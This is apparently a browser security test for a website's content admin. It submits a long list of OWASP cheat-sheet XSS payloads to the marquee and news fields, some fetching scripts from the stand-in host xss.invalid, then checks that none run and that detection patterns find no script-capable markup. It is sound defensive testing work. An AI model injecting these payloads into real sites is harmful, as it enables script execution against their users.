/**
 * Script in an HTML field (issue 11 §3, §5), in Chromium against the production build: the
 * payloads of the OWASP XSS filter evasion cheat sheet (script tags, event handlers,
 * `javascript:` URLs in many encodings, iframes, body onload, style expressions, data: URLs,
 * entity-encoded and mixed-case variants, broken tags, mutation XSS…) go through every HTML
 * field the content editor has (the marquee and news texts, English and Assamese) by the admin
 * API as admin.content. Then the public pages that show them (the desktop and mobile home with
 * the marquee and the News card, /Assamese, /NewsNotification and /AS_NewsNotification, page by
 * page) and the admin screen's own lists and edit form are opened with a `dialog` hook and
 * `window.__xss` watched: no payload runs, and no markup that could run one (an event handler, a
 * `javascript:`/`data:` URL, a script, iframe, object, svg, style…) is in the page. Afterwards
 * every item is unpublished, so the other files (the route sweep) never meet them.
 */
import type { BrowserContext, Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { indiaToday } from '../../shared/time'
import { hydrated } from '../helpers/browser'
import { adminApi, adminSignIn } from './adminLogin'
import { formSuite } from './formSuite'

// nothing else may show in the console: a Content Security Policy refusal would mean a payload tried to run
const suite = formSuite()
const { baseUrl, site } = suite
const today = indiaToday()
const TAG = `XSS-probe-${Date.now().toString(36)}`

/** OWASP XSS filter evasion cheat sheet payloads (each would call alert or set window.__xss). */
const PAYLOADS: string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=//xss.invalid/xss.js></SCRIPT>`,
  `<IMG SRC="javascript:alert(1);">`,
  `<IMG SRC=javascript:alert(1)>`,
  `<IMG SRC=JaVaScRiPt:alert(1)>`,
  '<IMG SRC=`javascript:alert(1)`>',
  `<a onmouseover="alert(1)">xxs link</a>`,
  `<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert(1)">`,
  `<IMG SRC= onmouseover="alert(1)">`,
  `<IMG SRC=/ onerror="alert(1)"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>`,
  `<IMG SRC="jav\tascript:alert(1);">`,
  `<IMG SRC="jav&#x09;ascript:alert(1);">`,
  `<IMG SRC="jav&#x0A;ascript:alert(1);">`,
  `<IMG SRC=" &#14;  javascript:alert(1);">`,
  `<SCRIPT/XSS SRC="//xss.invalid/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>',
  `<<SCRIPT>alert(1);//\\<</SCRIPT>`,
  `<SCRIPT SRC=//xss.invalid/.j>`,
  `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  `<iframe src=//xss.invalid/scriptlet.html <`,
  `</TITLE><SCRIPT>alert(1);</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">`,
  `<BODY BACKGROUND="javascript:alert(1)">`,
  `<IMG DYNSRC="javascript:alert(1)">`,
  `<svg/onload=alert(1)>`,
  `<svg><script>window.__xss=1</script></svg>`,
  `<BODY ONLOAD=alert(1)>`,
  `<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS</br>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
  `<IFRAME SRC="javascript:alert(1);"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert(1)">`,
  `<DIV STYLE="background-image: url(javascript:alert(1))">x</DIV>`,
  `<DIV STYLE="width: expression(alert(1));">x</DIV>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">`,
  `<STYLE>@import'javascript:alert(1)';</STYLE>`,
  `<a href="javascript:alert(1)">link</a>`,
  `<a href="JaVaScRiPt:window.__xss=1">link</a>`,
  `<a href="&#106;avascript:alert(1)">link</a>`,
  `<a href="java&#x09;script:alert(1)">link</a>`,
  `<a href=" &#14; javascript:alert(1)">link</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>`,
  `<a href="vbscript:alert(1)">link</a>`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="//xss.invalid/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<img src=x onerror=window.__xss=1>`,
  `<ImG sRc=x OnErRoR=alert(1)>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `"><script>window.__xss=1</script>`,
  `'><img src=x onerror=alert(1)>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<form><button formaction=javascript:alert(1)>x</button></form>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<body onpageshow=alert(1)>`,
  `<x onclick=alert(1)>click</x>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<a href="/website/PayBill" onclick="alert(1)" style="color:red">ok</a>`,
  `<span onmouseover=alert(1) style="position:fixed;inset:0">cover</span>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<input autofocus onfocus=alert(1)>`,
  `<b onmouseover=alert(1)>bold</b>`,
  `<a href="https://example.invalid/" target="_top" onfocus="alert(1)">x</a>`,
  `<img src="x` + '`' + ` onerror=alert(1)">`,
  `<<img src=x onerror=alert(1)//<`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<IMG SRC="jav&#x0D;ascript:alert(1);">`,
  `<style>*{background:url("javascript:window.__xss=1")}</style>`,
  `<link rel=stylesheet href="javascript:alert(1)">`,
  `<base href="javascript:alert(1)//">`,
]

/** Whatever could run script, found in the page's content areas (none may be there). */
async function dangerousMarkup(page: Page, selectors: string[]): Promise<string[]> {
  return page.evaluate((sels) => {
    const bad: string[] = []
    const FORBIDDEN = new Set([
      'SCRIPT',
      'IFRAME',
      'OBJECT',
      'EMBED',
      'SVG',
      'MATH',
      'IMG',
      'STYLE',
      'LINK',
      'META',
      'BASE',
      'FORM',
      'INPUT',
      'BUTTON',
      'VIDEO',
      'AUDIO',
      'SOURCE',
      'DETAILS',
      'MARQUEE',
      'BODY',
      'NOSCRIPT',
      'TABLE',
      'DIV',
      'X',
    ])
    for (const sel of sels) {
      for (const root of Array.from(document.querySelectorAll(sel))) {
        // only the admin's HTML: the items' own spans (the frame's own buttons and links are ours)
        for (const el of Array.from(root.querySelectorAll('[data-xss-root] *, .admin-html *, .marquee__item *, .news-list__text *, .listing-docs td:first-child *'))) {
          const tag = el.tagName.toUpperCase()
          if (FORBIDDEN.has(tag)) bad.push(`<${tag.toLowerCase()}> in ${sel}`)
          for (const a of Array.from(el.attributes)) {
            // eslint-disable-next-line no-control-regex -- strips what a browser strips from a URL before reading its scheme
            const v = a.value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
            if (/^on/i.test(a.name)) bad.push(`${a.name}= on <${tag.toLowerCase()}> in ${sel}`)
            if (a.name === 'style') bad.push(`style= on <${tag.toLowerCase()}> in ${sel}`)
            if (/^(javascript|data|vbscript):/.test(v)) bad.push(`${a.name}=${a.value.slice(0, 40)} in ${sel}`)
          }
        }
      }
    }
    return bad
  }, selectors)
}

interface Watch {
  dialogs: string[]
}

/** Hooks a context: every dialog is recorded (and dismissed), and window.__xss starts at 0. */
async function hook(context: BrowserContext, page: Page): Promise<Watch> {
  const watch: Watch = { dialogs: [] }
  await context.addInitScript(() => {
    ;(window as unknown as { __xss: number }).__xss = 0
  })
  page.on('dialog', (d) => {
    watch.dialogs.push(`${d.type()}: ${d.message()}`)
    void d.dismiss().catch(() => undefined)
  })
  return watch
}

/** Fires the events a payload may wait for on every element of the content areas (no clicks: links would navigate). */
async function poke(page: Page, selectors: string[]) {
  await page.evaluate((sels) => {
    for (const sel of sels) {
      for (const el of Array.from(document.querySelectorAll(`${sel} *`))) {
        for (const type of ['mouseover', 'mouseenter', 'focus', 'animationstart', 'toggle', 'pageshow']) el.dispatchEvent(new Event(type, { bubbles: false }))
      }
    }
  }, selectors)
  await page.waitForTimeout(150)
}

async function expectNothingRan(page: Page, watch: Watch, where: string, selectors: string[]) {
  await poke(page, selectors)
  expect(watch.dialogs, `${where}: a dialog opened`).toEqual([])
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss), `${where}: window.__xss`).toBe(0)
  expect(await dangerousMarkup(page, selectors), where).toEqual([])
}

const created: number[] = []

describe('script in the HTML fields (the OWASP XSS cheat sheet)', () => {
  it(`sends ${PAYLOADS.length} payloads through the marquee and news texts (English and Assamese); none runs on the public pages or the admin screen`, async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(40)
    const w = await suite.watch('desktop')
    const csrf = await adminSignIn(w.context, baseUrl, 'admin.content')
    try {
      // a javascript: link is refused outright
      const refused = await adminApi(w.context, baseUrl, csrf, 'POST', '/content/documents', { category: 'marquee', name: `${TAG} link`, date: today, link: 'javascript:alert(1)', published: true })
      expect(refused.status).toBe(400)

      for (const [i, payload] of PAYLOADS.entries()) {
        for (const category of ['marquee', 'news'] as const) {
          const res = await adminApi(w.context, baseUrl, csrf, 'POST', '/content/documents', {
            category,
            sub_type: category === 'news' ? (i % 2 ? 'news' : 'notification') : 'headline',
            name: `${TAG} ${category} ${i}: ${payload}`,
            name_as: `${TAG} অসমীয়া ${i}: ${payload}`,
            date: today,
            new_flag: i % 3 === 0,
            published: true,
          })
          expect(res.status, `${category} ${i}: ${payload}`).toBe(201)
          const doc = res.body.document as { id: number; name: string; nameAs: string }
          created.push(doc.id)
          for (const text of [doc.name, doc.nameAs])
            expect(text, payload).not.toMatch(
              /<\s*(script|img|svg|iframe|object|embed|style|meta|link|base|body|form|input|math|video|audio|details|marquee)\b|\son\w+\s*=|javascript:|vbscript:|data:text/i,
            )
        }
      }

      const watch = await hook(w.context, w.page)
      const page = w.page
      const publicAreas = ['.marquee', '.news-list', '.listing-docs']

      // the hooks themselves: a dialog is seen, and markup that could run is found
      await page.goto(site('/'))
      await hydrated(w)
      await page.evaluate(() => window.alert('self-check'))
      expect(watch.dialogs).toEqual(['alert: self-check'])
      watch.dialogs.length = 0
      await page.evaluate(() => {
        const probe = document.createElement('span')
        probe.id = 'xss-self-check'
        // an on* attribute that is no event handler: Chromium checks a real one against the CSP as soon as it is set, which this test would then report
        probe.innerHTML = '<img alt="" onxssprobe="window.__xss=1">'
        document.querySelector('.marquee__item')?.appendChild(probe)
      })
      expect(await dangerousMarkup(page, ['.marquee'])).toEqual(['<img> in .marquee', 'onxssprobe= on <img> in .marquee'])
      await page.evaluate(() => document.getElementById('xss-self-check')?.remove())

      // the home pages: the marquee (every item) and the News card (the newest, refreshed from /api/web/newsList)
      for (const path of ['/', '/Assamese']) {
        await page.goto(site(path))
        await hydrated(w)
        await page.waitForTimeout(500)
        expect(await page.locator('.marquee__item', { hasText: TAG }).count(), `${path}: the probes are in the marquee`).toBe(PAYLOADS.length)
        expect(await page.locator('.news-list__item', { hasText: TAG }).count(), `${path}: the probes are in the News card`).toBeGreaterThan(0)
        await expectNothingRan(page, watch, path, publicAreas)
      }

      // the news pages, every page of the probes, in both languages
      for (const path of ['/NewsNotification', '/AS_NewsNotification']) {
        let seen = 0
        for (let p = 1; p <= Math.ceil(PAYLOADS.length / 20); p++) {
          await page.goto(site(`${path}?q=${encodeURIComponent(TAG)}&page=${p}`))
          await hydrated(w)
          seen += await page.locator('.listing-docs tbody tr', { hasText: TAG }).count()
          await expectNothingRan(page, watch, `${path} page ${p}`, publicAreas)
        }
        expect(seen, `${path}: every probe listed`).toBe(PAYLOADS.length)
      }

      // the admin screen: the lists of both sections (every page) and an item's edit form
      for (const section of ['marquee', 'news']) {
        for (let p = 1; p <= Math.ceil(PAYLOADS.length / 20); p++) {
          await page.goto(site(`/AdminUploadDocuments?section=${section}&q=${encodeURIComponent(TAG)}&page=${p}`))
          await hydrated(w)
          expect(await page.locator('.admin-table tbody tr').count()).toBeGreaterThan(0)
          await expectNothingRan(page, watch, `admin ${section} page ${p}`, ['.admin-table'])
        }
      }
      await page.goto(site(`/AdminUploadDocuments?section=news&edit=${created[1]}`))
      await hydrated(w)
      expect(await page.inputValue('#doc-edit-name')).toContain(TAG)
      await expectNothingRan(page, watch, 'admin edit form', ['.admin-table', '#doc-edit'])
      w.expectClean('problems in the browser (desktop)')

      // the mobile home too
      const phone = await suite.watch('phone')
      const phoneWatch = await hook(phone.context, phone.page)
      await phone.page.goto(site('/'))
      await hydrated(phone)
      await phone.page.waitForTimeout(500)
      expect(await phone.page.locator('.marquee__item', { hasText: TAG }).count()).toBe(PAYLOADS.length)
      await expectNothingRan(phone.page, phoneWatch, 'mobile home', publicAreas)
    } finally {
      // every item off the public pages again (the route sweep and the home tests never meet them)
      for (const id of created) await adminApi(w.context, baseUrl, csrf, 'POST', `/content/documents/${id}/unpublish`)
      await w.close()
    }
  })
})
